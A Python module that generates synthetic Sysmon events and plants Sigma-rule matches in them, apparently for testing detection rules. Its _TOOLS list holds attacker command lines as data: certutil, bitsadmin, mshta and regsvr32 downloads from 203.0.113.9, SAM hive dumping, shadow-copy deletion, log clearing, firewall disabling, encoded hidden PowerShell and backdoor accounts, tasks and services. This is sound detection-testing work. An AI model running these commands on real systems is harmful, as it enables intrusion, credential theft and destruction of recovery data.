"""Sysmon events: what a Windows fleet does all day, and a share of what rules look for.

The usual programs, command lines, files, keys and names are invented or common knowledge. What is
suspicious is made from the rules themselves when they are loaded (:class:`Plants`): text that one
selection of a rule asks for, which satisfies the rule or comes close to it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Mapping, Sequence
from random import Random
from typing import Any, Final

Event = dict[str, Any]
Draw = Random

_SYSTEM = "C:\\Windows\\System32\\"
_CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
_TEAMS = "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_SERVICES = _SYSTEM + "services.exe"
_EXPLORER = "C:\\Windows\\explorer.exe"

#: Image, its original name, command line, parent, parent's command line, how often.
_PROCESSES: Final[tuple[tuple[str, str, str, str, str, int], ...]] = (
    (
        _CHROME,
        "chrome.exe",
        (
            f'"{_CHROME}" --type=renderer --lang=en-US --device-scale-factor=1 '
            "--num-raster-threads=4 --renderer-client-id={n} --time-ticks-at-unix-epoch=-{n} "
            "--mojo-platform-channel-handle={m} /prefetch:1"
        ),
        _CHROME,
        f'"{_CHROME}"',
        24,
    ),
    (
        _SYSTEM + "svchost.exe",
        "svchost.exe",
        f"{_SYSTEM}svchost.exe -k netsvcs -p -s wuauserv",
        _SERVICES,
        _SERVICES,
        14,
    ),
    (
        _SYSTEM + "backgroundTaskHost.exe",
        "backgroundTaskHost.exe",
        f'"{_SYSTEM}backgroundTaskHost.exe" -ServerName:App.AppX{{n}}.mca',
        _SYSTEM + "svchost.exe",
        f"{_SYSTEM}svchost.exe -k DcomLaunch -p",
        8,
    ),
    (
        _SYSTEM + "conhost.exe",
        "CONHOST.EXE",
        f"\\??\\{_SYSTEM}conhost.exe 0xffffffff -ForceV1",
        _SYSTEM + "cmd.exe",
        f"{_SYSTEM}cmd.exe /c C:\\Tools\\inventory.cmd {{n}}",
        8,
    ),
    (
        _TEAMS,
        "Teams.exe",
        (
            f'"{_TEAMS}" --type=utility --user-data-dir="C:\\Users\\{{user}}\\AppData\\Roaming\\'
            'Microsoft\\Teams" --field-trial-handle={n}'
        ),
        _TEAMS,
        f'"{_TEAMS}"',
        8,
    ),
    (
        _OFFICE + "WINWORD.EXE",
        "WinWord.exe",
        f'"{_OFFICE}WINWORD.EXE" /n "C:\\Users\\{{user}}\\Documents\\Report {{n}}.docx"',
        _EXPLORER,
        _EXPLORER,
        5,
    ),
    (
        "C:\\Program Files\\Git\\cmd\\git.exe",
        "git.exe",
        "git.exe -c core.quotepath=false status --porcelain -z --untracked-files=all",
        "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
        '"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"',
        6,
    ),
    (
        _SYSTEM + "cmd.exe",
        "Cmd.Exe",
        f"{_SYSTEM}cmd.exe /d /s /c build.cmd --target release-{{m}}",
        "C:\\Program Files\\nodejs\\node.exe",
        '"C:\\Program Files\\nodejs\\node.exe" scripts\\build.js',
        5,
    ),
    (
        _SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
        "PowerShell.EXE",
        'powershell.exe -File "C:\\Program Files\\Inventory\\collect.ps1" -Id {n}',
        _SYSTEM + "svchost.exe",
        f"{_SYSTEM}svchost.exe -k netsvcs -p -s Schedule",
        4,
    ),
    (
        "C:\\Windows\\SysWOW64\\msiexec.exe",
        "msiexec.exe",
        f"{_SYSTEM}MsiExec.exe -Embedding {{n}} E Global\\MSI0000",
        _SYSTEM + "msiexec.exe",
        f"{_SYSTEM}msiexec.exe /V",
        3,
    ),
    (
        _SYSTEM + "taskhostw.exe",
        "taskhostw.exe",
        "taskhostw.exe KEYROAMING",
        _SYSTEM + "svchost.exe",
        f"{_SYSTEM}svchost.exe -k netsvcs -p -s Schedule",
        4,
    ),
    (
        _SYSTEM + "SearchProtocolHost.exe",
        "SearchProtocolHost.exe",
        f'"{_SYSTEM}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{{m}}_ 1 -2147483646',
        _SYSTEM + "SearchIndexer.exe",
        f"{_SYSTEM}SearchIndexer.exe /Embedding",
        4,
    ),
    (
        "C:\\Program Files\\JumpCloud\\jumpcloud-agent.exe",
        "jumpcloud-agent.exe",
        '"C:\\Program Files\\JumpCloud\\jumpcloud-agent.exe" --check-in {n}',
        _SERVICES,
        _SERVICES,
        4,
    ),
    (
        _EXPLORER,
        "EXPLORER.EXE",
        f"{_EXPLORER} /factory,{{n}} -Embedding",
        _SYSTEM + "svchost.exe",
        f"{_SYSTEM}svchost.exe -k DcomLaunch -p",
        3,
    ),
)

#: What administrators and intruders type; each is more than one rule's business.
_TOOLS: Final[tuple[tuple[str, str], ...]] = (
    ("whoami.exe", "whoami /all"),
    ("net.exe", 'net group "Domain Admins" /domain'),
    ("net1.exe", "net1 user helpdesk Winter{m} /add"),
    ("nltest.exe", "nltest /domain_trusts /all_trusts"),
    ("systeminfo.exe", "systeminfo"),
    ("tasklist.exe", "tasklist /svc"),
    ("ipconfig.exe", "ipconfig /all"),
    ("reg.exe", "reg save HKLM\\SAM C:\\Users\\Public\\{n}.hiv"),
    ("schtasks.exe", "schtasks /create /sc minute /tn Update{m} /tr C:\\Users\\Public\\{n}.exe"),
    ("sc.exe", "sc create Helper{m} binPath= C:\\Windows\\Temp\\{n}.exe start= auto"),
    ("vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    ("bcdedit.exe", "bcdedit /set {{default}} recoveryenabled no"),
    ("wevtutil.exe", "wevtutil cl Security"),
    ("certutil.exe", "certutil -urlcache -split -f http://203.0.113.9/{n}.txt {n}.exe"),
    ("bitsadmin.exe", "bitsadmin /transfer {m} http://203.0.113.9/{n} C:\\Windows\\Temp\\{n}.exe"),
    ("mshta.exe", "mshta http://203.0.113.9/{n}.hta"),
    ("regsvr32.exe", "regsvr32 /s /u /i:http://203.0.113.9/{n}.sct scrobj.dll"),
    ("netsh.exe", "netsh advfirewall set allprofiles state off"),
    ("WindowsPowerShell\\v1.0\\powershell.exe", "powershell -nop -w hidden -enc {n}{n}{n}"),
)
_PARENTS = (
    _SYSTEM + "cmd.exe",
    _SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
    _SYSTEM + "wscript.exe",
    _SYSTEM + "mshta.exe",
    _OFFICE + "WINWORD.EXE",
    "C:\\Windows\\Temp\\update.exe",
)

_NAMES = (  # noqa: SIM905 - a list of words
    "outlook.office365.com teams.microsoft.com www.example.com login.example.com cdn.example.net "
    "update.googleapis.com api.github.com sso.example.com wpad.corp.example.com mail.example.org "
    "console.example.com files.example.net ocsp.example.org time.windows.com"
).split()
_FILES = (
    "C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_{n}",
    "C:\\Users\\{user}\\AppData\\Local\\Temp\\{n}.tmp",
    "C:\\Users\\{user}\\Documents\\Projects\\notes-{n}.md",
    "C:\\Windows\\Prefetch\\CHROME.EXE-{n}.pf",
    "C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\GatherLogs\\{n}.gthr",
)
_KEYS = (
    (
        "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Interfaces\\{n}\\Lease",
        "QWORD",
    ),
    ("HKU\\S-1-5-21-{n}\\Software\\Microsoft\\Office\\16.0\\Word\\Place MRU\\Item 1", "Report"),
    ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\{n}\\Size", "DWORD"),
    (
        "HKU\\S-1-5-21-{n}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\View",
        "Binary Data",
    ),
)
_LIBRARIES = (  # noqa: SIM905 - a list of words
    "kernel32.dll ntdll.dll user32.dll gdi32.dll combase.dll ucrtbase.dll rpcrt4.dll sechost.dll "
    "advapi32.dll shell32.dll crypt32.dll bcrypt.dll ws2_32.dll propsys.dll windows.storage.dll"
).split()
_USERS = "ada ben cem dora emil fay gus hana ines joel kira lea milo nora omar pia".split()  # noqa: SIM905
_LEVELS = ("Medium", "Medium", "Medium", "High", "System", "Low")


def _hexadecimal(draw: Draw, digits: int) -> str:
    return f"{draw.getrandbits(4 * digits):0{digits}X}"


def _fill(draw: Draw) -> dict[str, Any]:
    return {
        "user": draw.choice(_USERS),
        "n": _hexadecimal(draw, 8),
        "m": draw.randrange(1000, 9999),
    }


def _hashes(draw: Draw) -> str:
    return (
        f"MD5={_hexadecimal(draw, 32)},SHA256={_hexadecimal(draw, 64)},"
        f"IMPHASH={_hexadecimal(draw, 32)}"
    )


def process_fields(draw: Draw) -> Event:
    """What Sysmon says of a process that begins, as far as rules ask for it."""
    image, original, command, parent, parent_command, _ = draw.choices(
        _PROCESSES, [row[-1] for row in _PROCESSES]
    )[0]
    fill = _fill(draw)
    return {
        "Image": image.format(**fill),
        "OriginalFileName": original,
        "CommandLine": command.format(**fill),
        "CurrentDirectory": f"C:\\Users\\{fill['user']}\\",
        "User": f"EXAMPLE\\{fill['user']}",
        "IntegrityLevel": draw.choice(_LEVELS),
        "Hashes": f"SHA256={_hexadecimal(draw, 64)}",
        "ParentImage": parent.format(**fill),
        "ParentCommandLine": parent_command.format(**fill),
    }


def tool_fields(draw: Draw) -> Event:
    """Over those of a process: a tool that many rules know."""
    name, command = draw.choice(_TOOLS)
    parent = draw.choice(_PARENTS)
    return {
        "Image": _SYSTEM + name,
        "OriginalFileName": name.rsplit("\\", 1)[-1],
        "CommandLine": command.format(**_fill(draw)),
        "IntegrityLevel": draw.choice(("High", "System")),
        "ParentImage": parent,
        "ParentCommandLine": f'"{parent}"',
    }


def _process(draw: Draw) -> Event:
    fields = process_fields(draw)
    return {
        **fields,
        "Hashes": _hashes(draw),
        "ProcessId": draw.randrange(4, 60_000),
        "FileVersion": f"10.0.{draw.randrange(19041, 26100)}.1",
        "Description": fields["OriginalFileName"],
        "Product": "Product",
        "Company": "Company",
        "LogonGuid": f"{{{_hexadecimal(draw, 32)}}}",
        "LogonId": f"0x{draw.getrandbits(24):x}",
        "TerminalSessionId": draw.randrange(4),
        "ParentProcessGuid": f"{{{_hexadecimal(draw, 32)}}}",
        "ParentProcessId": draw.randrange(4, 60_000),
        "ParentUser": fields["User"],
    }


def _network(draw: Draw) -> Event:
    return {
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIsIpv6": "false",
        "SourceIp": f"192.0.2.{draw.randrange(1, 255)}",
        "SourceHostname": f"pc-{draw.randrange(400):03}.corp.example.com",
        "SourcePort": draw.randrange(49_152, 65_536),
        "DestinationIsIpv6": "false",
        "DestinationIp": f"198.51.100.{draw.randrange(1, 255)}",
        "DestinationHostname": draw.choice(_NAMES),
        "DestinationPort": draw.choice((443, 443, 443, 80, 53, 445)),
        "DestinationPortName": "https",
    }


def _library(draw: Draw) -> Event:
    name = draw.choice(_LIBRARIES)
    return {
        "ImageLoaded": f"{_SYSTEM}{name}",
        "FileVersion": f"10.0.{draw.randrange(19041, 26100)}.1",
        "Description": name,
        "Product": "Microsoft Windows Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": name,
        "Hashes": _hashes(draw),
        "Signed": "true",
        "Signature": "Microsoft Windows",
        "SignatureStatus": "Valid",
    }


def _file(draw: Draw) -> Event:
    return {
        "TargetFilename": draw.choice(_FILES).format(**_fill(draw)),
        "CreationUtcTime": "2026-01-05 08:00:00.000",
    }


def _key(draw: Draw) -> Event:
    name, details = draw.choice(_KEYS)
    return {
        "EventType": "SetValue",
        "TargetObject": name.format(**_fill(draw)),
        "Details": details,
    }


def _name(draw: Draw) -> Event:
    return {
        "QueryName": draw.choice(_NAMES),
        "QueryStatus": "0",
        "QueryResults": f"::ffff:198.51.100.{draw.randrange(1, 255)};",
    }


#: Sysmon's number of the kind, the category of its rules, its own fields, how often of a hundred.
_KINDS: Final[tuple[tuple[int, str, Callable[[Draw], Event], int], ...]] = (
    (1, "process_creation", _process, 25),
    (3, "network_connection", _network, 20),
    (7, "image_load", _library, 25),
    (11, "file_event", _file, 13),
    (13, "registry_set", _key, 12),
    (22, "dns_query", _name, 5),
)
CATEGORIES: Final = tuple(category for _, category, _, _ in _KINDS)


def event(draw: Draw, number: int) -> tuple[Event, str]:
    """One event of Sysmon, as agents flatten them, and the category of the rules for its kind."""
    event_id, category, own, _ = draw.choices(_KINDS, [kind[-1] for kind in _KINDS])[0]
    process = process_fields(draw)
    minute, second = divmod(number // 100, 60)
    hour, minute = divmod(minute, 60)
    moment = (
        f"2026-01-{5 + hour // 24:02} {hour % 24:02}:{minute:02}:{second:02}.{number % 100:02}0"
    )
    return {
        "EventID": event_id,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": f"pc-{draw.randrange(400):03}.corp.example.com",
        "EventRecordID": number,
        "UtcTime": moment,
        "RuleName": "-",
        "ProcessGuid": f"{{{_hexadecimal(draw, 32)}}}",
        "ProcessId": draw.randrange(4, 60_000),
        "Image": process["Image"],
        "User": process["User"],
        **own(draw),
    }, category


class Plants:
    """What the rules of some categories look for, to be written over fields of usual events.

    ``documents`` are Sigma rules as plain data; those with values that cannot be written down
    without work (expressions, encodings, numbers to compare) are left out.
    """

    def __init__(self, documents: Iterable[Mapping[str, Any]], categories: Sequence[str]) -> None:
        self._of: dict[str, list[Mapping[str, Any]]] = {name: [] for name in categories}
        for document in documents:
            if (name := document["logsource"].get("category")) in self._of:
                self._of[name].append(document["detection"])

    def write(self, event: Event, category: str, draw: Draw) -> None:
        """Write what one rule of the category looks for over the fields of an event."""
        event.update(_planted(draw.choice(self._of[category]), draw))


def _planted(detection: Mapping[str, Any], draw: Draw) -> Event:
    """The fields of all selections but filters; where two ask for the same field, the later."""
    made: Event = {}
    for name, selection in detection.items():
        if name == "condition" or name.startswith("filter"):
            continue
        chosen = draw.choice(selection) if isinstance(selection, list) else selection
        if isinstance(chosen, dict):
            made.update(_fields(chosen, draw))
    return made


def _fields(selection: Mapping[str, Any], draw: Draw) -> Event:
    starts: dict[str, str] = {}
    middles: dict[str, list[str]] = {}
    ends: dict[str, str] = {}
    whole: Event = {}
    for key, given in selection.items():
        field, *modifiers = key.split("|")
        values = [value for value in _listed(given) if isinstance(value, str | int)]
        if not values or not field or not _WRITABLE.issuperset(modifiers):
            continue
        texts = values if "all" in modifiers else [draw.choice(values)]
        if "startswith" in modifiers:
            starts[field] = _text(texts[0])
        elif "endswith" in modifiers:
            ends[field] = _text(texts[0])
        elif "contains" in modifiers:
            middles.setdefault(field, []).extend(map(_text, texts))
        else:
            whole[field] = _text(texts[0]) if isinstance(texts[0], str) else texts[0]
    joined = {
        field: starts.get(field, "C:\\Tools")
        + " ".join(("", *middles.get(field, ()), ""))
        + ends.get(field, "x")
        for field in {**starts, **middles, **ends}
    }
    return {**joined, **whole}


_WRITABLE: Final = frozenset({"startswith", "endswith", "contains", "all", "windash"})


def _listed(given: Any) -> list[Any]:
    return given if isinstance(given, list) else [given]


def _text(value: object) -> str:
    """A text that the pattern fits, wildcards and escapes of Sigma taken out."""
    return str(value).replace("\\\\", "\\").replace("*", "").replace("?", "x")
